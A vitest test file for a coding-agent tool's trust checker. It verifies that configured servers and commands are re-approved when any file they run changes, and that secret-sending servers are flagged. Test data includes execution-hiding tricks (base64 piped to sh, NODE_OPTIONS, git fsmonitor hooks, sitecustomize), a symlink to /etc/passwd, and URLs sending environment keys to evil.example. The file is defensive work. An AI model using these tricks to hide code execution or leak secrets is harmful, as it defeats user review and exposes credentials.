import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { tempWorkspace, type TempWorkspace } from 'vtcode/test'
import { itemForValue } from '../../../build/core/trust/index.js'

let space: TempWorkspace
beforeEach(async () => {
  space = await tempWorkspace()
})
afterEach(() => {
  vi.unstubAllEnvs()
  return space[Symbol.asyncDispose]()
})

interface Program {
  command: string
  args?: string[]
  cwd?: string
  env?: Record<string, string>
}
type Files = Record<string, string>
const sh = (text: string): Program => ({ command: 'sh', args: ['-c', text] })
const bash = (text: string): Program => ({ command: 'bash', args: ['-c', text] })
const node = (...args: string[]): Program => ({ command: 'node', args })
const python = (...args: string[]): Program => ({ command: 'python3', args })

/** What a file does when it runs, in the language of its ending. */
function body(file: string): string {
  if (/\.py$/.test(file)) return "import os\nopen(os.environ['RAN'], 'w').close()\n"
  if (/\.mjs$/.test(file)) return "import { writeFileSync } from 'node:fs'\nwriteFileSync(process.env.RAN, '')\n"
  if (/\.c?js$/.test(file)) return "require('node:fs').writeFileSync(process.env.RAN, '')\n"
  if (/\.awk$/.test(file)) return 'BEGIN { printf "" > ENVIRON["RAN"] }\n'
  if (/Makefile$|\.mk$/.test(file)) return 'all:\n\t@touch "$$RAN"\n'
  return 'touch "$RAN"\n'
}

function put(all: Files): void {
  for (const [name, text] of Object.entries(all)) {
    const file = join(space.root, name)
    mkdirSync(dirname(file), { recursive: true })
    if (text.startsWith('-> ')) symlinkSync(text.slice(3), file)
    else writeFileSync(file, text)
    if (!text.startsWith('-> ')) chmodSync(file, 0o755)
  }
}
const itemOf = (value: unknown, key = 'mcp.servers') => itemForValue(join(space.root, 'vtcode.config.yaml'), key, value, space.root)
/** `#` stands for the workspace. */
const here = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll('#', space.root)) as T

const names: Files = { 'go.sh': '. ./tools/e.sh\n' }
const ways: [how: string, program: Program, file: string, more?: Files][] = [
  ['a shell in a shell', sh("sh -c 'sh tools/e.sh'"), 'tools/e.sh'],
  ['a shell in a shell in a shell, with a space', sh(String.raw`sh -c "sh -c 'sh \"tools/a b.sh\"'"`), 'tools/a b.sh'],
  ['a space behind a backslash', sh(String.raw`sh tools/a\ b.sh`), 'tools/a b.sh'],
  ['a space within quotes in the middle', sh('sh tools/"a b".sh'), 'tools/a b.sh'],
  ['a name with a quote in it', sh(`sh "tools/it's.sh"`), "tools/it's.sh"],
  ['an escape of bash', bash(String.raw`sh $'tools/\x65.sh'`), 'tools/e.sh'],
  ['an octal escape of bash', bash(String.raw`sh $'tools/\145.sh'`), 'tools/e.sh'],
  ['a line that goes on', sh('sh to\\\nols/e.sh'), 'tools/e.sh'],
  ['a here-document', sh('sh <<E\n. tools/e.sh\nE'), 'tools/e.sh'],
  ['a pipe', sh('cat tools/e.sh | sh'), 'tools/e.sh'],
  ['a redirection by number', sh('sh 0<tools/e.sh'), 'tools/e.sh'],
  ['eval of what is read', sh('eval "$(cat tools/e.sh)"'), 'tools/e.sh'],
  ['env -S', { command: 'env', args: ['-S', 'sh tools/e.sh'] }, 'tools/e.sh'],
  ['env with an assignment', sh('env A=1 sh tools/e.sh'), 'tools/e.sh'],
  ['exec -a', bash('exec -a other sh tools/e.sh'), 'tools/e.sh'],
  ['xargs', sh('echo tools/e.sh | xargs sh'), 'tools/e.sh'],
  ['find -exec', sh(String.raw`find tools -name e.sh -exec sh {} \;`), 'tools/e.sh'],
  ['nohup in nice', sh('nohup nice sh tools/e.sh >/dev/null'), 'tools/e.sh'],
  ['a search path in the text', sh('PATH=./tools:$PATH; e.sh'), 'tools/e.sh'],
  ['a search path in env', { ...sh('e.sh'), env: { PATH: './tools:/usr/bin:/bin' } }, 'tools/e.sh'],
  ['a folder by a default', sh('sh ${X:-tools}/e.sh'), 'tools/e.sh'],
  ['a name by a default', sh('sh ${X:-tools/e}.sh'), 'tools/e.sh'],
  ['an empty variable in a name', sh('sh tools/e$X.sh'), 'tools/e.sh'],
  ['parameters that are not there', sh('sh too$@ls/e.sh'), 'tools/e.sh'],
  ['what pwd prints', sh('sh "$(pwd)/tools/e.sh"'), 'tools/e.sh'],
  ['what pwd prints, by backticks', sh('sh `pwd`/tools/e.sh'), 'tools/e.sh'],
  ['the folder of the process', sh('sh /proc/self/cwd/tools/e.sh'), 'tools/e.sh'],
  ['braces', bash('sh tools/{e,x}.sh'), 'tools/e.sh'],
  ['the home', sh('sh ~/tools/e.sh'), 'tools/e.sh'],
  ['the home as a variable', sh('sh $HOME/tools/e.sh'), 'tools/e.sh'],
  ['a backslash in a name', { command: 'sh', args: ['tools/a\\b.sh'] }, 'tools/a\\b.sh'],
  ['marks in a name', { command: 'sh', args: ['tools/a=b,c:d@e.sh'] }, 'tools/a=b,c:d@e.sh'],
  ['an option with a value that has a space', node('--require=./sub/a b.js', '-e', '1'), 'sub/a b.js'],
  ['an option with its value attached', { command: 'make', args: ['-fsub/x.mk'] }, 'sub/x.mk'],
  ['a program for awk', { command: 'awk', args: ['-f', 'sub/x.awk'] }, 'sub/x.awk'],
  ['--require without an ending', node('-r', './sub/lib', '-e', '1'), 'sub/lib.js'],
  ['require in a text, without an ending', node('-e', "require('./sub/lib')"), 'sub/lib.js'],
  ['require in a text, with an escape', node('-e', String.raw`require('./sub/\u006cib.js')`), 'sub/lib.js'],
  ['import in a text, with an escape of an address', node('--input-type=module', '-e', "import './sub/%6cib.mjs'"), 'sub/lib.mjs'],
  ['import with a query', node('--import', './sub/lib.mjs?x', '-e', '1'), 'sub/lib.mjs'],
  ['import of an address', node('--import', 'file://#/sub/l%69b.mjs', '-e', '1'), 'sub/lib.mjs'],
  ['NODE_OPTIONS in env', { ...node('-e', '1'), env: { NODE_OPTIONS: '--require ./sub/lib.js' } }, 'sub/lib.js'],
  ['NODE_PATH in env', { ...node('-e', "require('lib')"), env: { NODE_PATH: 'sub' } }, 'sub/lib.js'],
  ['a text that reads a file and evaluates it', node('-e', "eval(require('node:fs').readFileSync('sub/lib.js', 'utf8'))"), 'sub/lib.js'],
  ['a text of Python that reads a file and runs it', python('-c', "exec(open('sub/lib.py').read())"), 'sub/lib.py'],
  ['python -m of a file', python('-m', 'lib'), 'lib.py'],
  ['python -m of a file in a package', python('-m', 'sub.lib'), 'sub/lib.py'],
  ['python -m of a package', python('-m', 'sub'), 'sub/__main__.py'],
  ['an import of Python', python('sub/main.py'), 'sub/lib.py', { 'sub/main.py': 'import lib\n' }],
  ['an import of Python from a package', python('main.py'), 'sub/deep/lib.py', { 'main.py': 'from sub.deep import lib\n' }],
  ['sitecustomize on PYTHONPATH', { ...python('-c', '1'), env: { PYTHONPATH: 'sub' } }, 'sub/sitecustomize.py'],
  ['the first line of a script', { command: './go' }, 'tools/e.sh', { go: '#!/bin/sh tools/e.sh\n' }],
  ['env -S in the first line of a script', { command: './go' }, 'tools/e.sh', { go: '#!/usr/bin/env -S sh tools/e.sh\n' }],
  ['a script that a script sources', { command: 'sh', args: ['go.sh'] }, 'tools/e.sh', names],
  ['a script beside a script', { command: 'sh', args: ['sub/go.sh'] }, 'sub/e.sh', { 'sub/go.sh': 'sh "$(dirname "$0")/e.sh"\n' }],
  ['a script of a script of a script', { command: 'sh', args: ['one'] }, 'tools/e.sh', { ...names, one: 'sh ./two\n', two: 'sh go.sh\n' }],
  ['a module that a script starts, and what it imports', { command: 'sh', args: ['go.sh'] }, 'sub/lib.js', { 'go.sh': 'node sub/main.cjs\n', 'sub/main.cjs': "require('./lib.js')\n" }],
  ['a folder, whose first file requires one beside it', node('tools'), 'sub/lib.js', { 'tools/index.js': "require('../sub/lib.js')\n" }],
  ['the name above a link', sh('sh link/../e.sh'), 'sub/e.sh', { 'e.sh': 'true\n', 'sub/deep/x': '', link: '-> sub/deep' }],
  ['a working folder that is a link', { command: 'sh', args: ['../e.sh'], cwd: 'link' }, 'sub/e.sh', { 'e.sh': 'true\n', 'sub/deep/x': '', link: '-> sub/deep' }],
  ['a link to a script', sh('sh link.sh'), 'tools/e.sh', { 'link.sh': '-> tools/e.sh' }],
  ['make, that reads its file unasked', { command: 'make' }, 'Makefile'],
  ['a test runner, that reads its file unasked', python('-c', 'import conftest', 'pytest'), 'conftest.py'],
]

describe('a program of a workspace runs a file that is shown, and is asked about after a change of it', () => {
  it.each(ways)('whatever names it: %s', (_, given, file, more = {}) => {
    vi.stubEnv('HOME', space.root)
    put({ ...more, [file]: body(file) })
    const program = here(given)
    const ran = join(space.home, 'ran')
    rmSync(ran, { force: true })
    // It does run: the attack is one.
    spawnSync(program.command, program.args ?? [], { cwd: join(space.root, program.cwd ?? '.'), env: { PATH: process.env['PATH'], HOME: space.root, RAN: ran, ...program.env }, stdio: 'ignore', timeout: 20_000 })
    expect(existsSync(ran)).toBe(true)
    const before = itemOf({ s: program })
    expect(Object.keys(before.agreed!.tree.files)).toContain(file)
    writeFileSync(join(space.root, file), `${body(file)}#\n`)
    expect(itemOf({ s: program }).digest).not.toBe(before.digest)
  })

  it.each<[how: string, program: Program, file: string, more: Files]>([
    ['npm run, with what the script names', { command: 'npm', args: ['run', 'lint'] }, 'tools/e.sh', { 'package.json': '{ "scripts": { "lint": "sh tools/e.sh" } }' }],
    ['npm run', { command: 'npm', args: ['run', 'lint'] }, 'package.json', {}],
    ['npm in a folder', { command: 'npm', args: ['--prefix', 'sub', 'test'] }, 'sub/package.json', {}],
    ['npx', { command: 'npx', args: ['tool'] }, 'node_modules/tool/cli.js', { 'node_modules/.bin/tool': '-> ../tool/cli.js' }],
    ['what .npmrc names', { command: 'npm', args: ['ci'] }, 'tools/e.sh', { '.npmrc': 'git=./tools/e.sh\n' }],
    ['what bunfig.toml loads first', { command: 'bun', args: ['run', 'x'] }, 'sub/lib.js', { 'bunfig.toml': 'preload = ["./sub/lib.js"]\n' }],
    ['just', { command: 'just', args: ['lint'] }, 'justfile', {}],
    ['the folder of git’s hooks', { command: 'git', args: ['-c', 'core.hooksPath=tools', 'status'] }, 'tools/pre-commit', {}],
    ['a file system monitor of git', { command: 'git', args: ['-c', 'core.fsmonitor=./tools/e.sh', 'status'] }, 'tools/e.sh', {}],
    ['the root that git prints', sh('"$(git rev-parse --show-toplevel)"/tools/e.sh'), 'tools/e.sh', {}],
    ['a variable of a client', sh('"$CLAUDE_PROJECT_DIR"/tools/e.sh'), 'tools/e.sh', {}],
    ['a working folder by a variable', { command: 'node', args: ['server.js'], cwd: '${workspaceFolder}/sub' }, 'sub/server.js', {}],
    ['deno with a file of settings', { command: 'deno', args: ['task', 'x'] }, 'deno.json', {}],
  ])('also where the program itself is not at hand: %s', (_, program, file, more) => {
    put({ ...more, [file]: more[file] ?? '{}\n' })
    const before = itemOf({ s: program })
    expect(Object.keys(before.agreed!.tree.files)).toContain(file)
    writeFileSync(join(space.root, file), '{ "changed": 1 }\n')
    expect(itemOf({ s: program }).digest).not.toBe(before.digest)
  })
})

describe('what nobody can know of a program', () => {
  it.each<[how: string, program: Program, says: RegExp]>([
    ['a pattern', sh('sh t*/e.sh'), /^It starts a program whose files are not covered: sh -c sh t\*\/e\.sh$/],
    ['a text that is decoded', sh('echo c2ggdG9vbHMvZS5zaAo= | base64 -d | sh'), /^It starts a program whose files are not covered: /],
    ['a name in parts', sh('A=too; B=ls; sh $A$B/e.sh'), /^It starts a program whose files are not covered: /],
    ['a variable beside a file that is covered', sh('sh tools/e.sh; sh $X'), /covered are tools\/e\.sh, not what else it loads: \$X$/],
    ['a pattern beside one', sh('sh tools/e.sh; sh ./*.sh'), /covered are tools\/e\.sh, not what else it loads: what it finds by patterns or other commands$/],
    ['a program of packages', { command: 'npx', args: ['-y', 'somebody'] }, /^It starts a program whose files are not covered: npx -y somebody$/],
    ['packages of a script', { command: 'node', args: ['sub/a.js'] }, /covered are sub\/a\.js, not what else it loads: packages that sub\/a\.js imports$/],
    ['a script that names a way out', { command: 'sh', args: ['sub/out.sh'] }, /covered are sub\/out\.sh, not what else it loads: sub\/away$/],
    ['a script that is too long to be searched', { command: 'sh', args: ['sub/long.sh'] }, /covered are sub\/long\.sh, not what else it loads: what sub\/long\.sh names, which is too long to be searched$/],
    ['a script that names too many', { command: 'sh', args: ['sub/many.sh'] }, /covered are sub\/many\.sh, not what else it loads: more than 100 files that scripts name$/],
  ])('is said: %s', (_, program, says) => {
    const many = Array.from({ length: 130 }, (_, index) => `f${index}`)
    put({ 'tools/e.sh': 'true\n', 'sub/a.js': "import 'somebody'\n", 'sub/out.sh': 'sh sub/away\n', 'sub/away': '-> /etc/passwd', 'sub/long.sh': `#${'x'.repeat(1_048_576)}\n`, 'sub/many.sh': many.map((name) => `sh many/${name}\n`).join(''), ...Object.fromEntries(many.map((name) => [`many/${name}`, 'true\n'])) })
    expect(itemOf({ s: program }).uncovered).toEqual([expect.stringMatching(says)])
  })
  it.each(['args', 'run', 'command', 'env', 'url', 'cwd', 'commands'])('is said of a server with the name %s, too', (name) => {
    put({ 'tools/e.sh': 'true\n' })
    const { uncovered, agreed } = itemOf({ [name]: { command: 'sh', args: ['tools/e.sh'] }, other: { command: 'npm', args: ['start'] } })
    expect(uncovered).toEqual(expect.arrayContaining(['It starts `sh tools/e.sh`; covered are tools/e.sh, not what else it loads', 'It starts a program whose files are not covered: npm start']))
    expect(Object.keys(agreed!.tree.files)).toEqual(['tools/e.sh'])
  })
  it('is said of the commands that prove work', () => {
    put({ 'tools/e.sh': 'true\n' })
    const { uncovered, agreed } = itemOf(['sh tools/e.sh', 'npm test'], 'agent.harness.verification.commands')
    expect(uncovered).toEqual(['It starts `sh tools/e.sh`; covered are tools/e.sh, not what else it loads', 'It starts a program whose files are not covered: npm test'])
    expect(Object.keys(agreed!.tree.files)).toEqual(['tools/e.sh'])
  })
})

describe('what a server of a workspace would be given of the user', () => {
  const said = (servers: object) => itemOf(servers).uncovered
  it('is named with the place it goes to, whatever name the server has', () => {
    const good = { url: 'https://good.example/mcp' }
    const evil = { url: 'https://evil.example/mcp', headers: { Authorization: { env: 'MY_KEY' } } }
    expect(said({ url: good, evil })).toEqual(['It sends what MY_KEY holds in your environment to evil.example'])
    expect(said({ headers: evil, url: good })).toEqual(['It sends what MY_KEY holds in your environment to evil.example'])
    expect(said({ a: { url: 'https://good.example@evil.example/', headers: { a: '${A}', b: 'Bearer ${B:-none}' } } })).toEqual(['It sends what A, B hold in your environment to evil.example'])
    expect(said({ a: { url: 'https://evil.example/?k=${KEY}' } })).toEqual(['It sends what KEY holds in your environment to evil.example'])
    expect(said({ a: { url: 'https://${HOST}/', auth: { type: 'bearer', value: { env: 'KEY' } } } })).toEqual(['It sends what HOST, KEY hold in your environment to https://${HOST}/'])
    expect(said({ a: { url: 'https://evil.example', auth: { type: 'basic', password: { join: ['x', { env: 'KEY' }, { secret: 'token' }] } } } })).toEqual(['It sends what KEY holds in your environment and your secret token to evil.example'])
  })
  it('is named with the program that gets it', () => {
    const programs = { env: { command: 'npx', args: ['one'], env: { TOKEN: { env: 'MY_TOKEN' }, OTHER: 'x ${MY_OTHER}' } } }
    expect(said(programs)).toEqual(['It starts a program whose files are not covered: npx one', 'It hands what MY_TOKEN, MY_OTHER hold in your environment to the program `npx one`'])
  })
  it('is asked about anew when the place changes, or the variable', () => {
    const digests = [['one.example', 'A'], ['two.example', 'A'], ['one.example', 'B']].map(([host, name]) => itemOf({ s: { url: `https://${host}/`, headers: { x: { env: name } } } }).digest)
    expect(new Set(digests).size).toBe(3)
  })
})
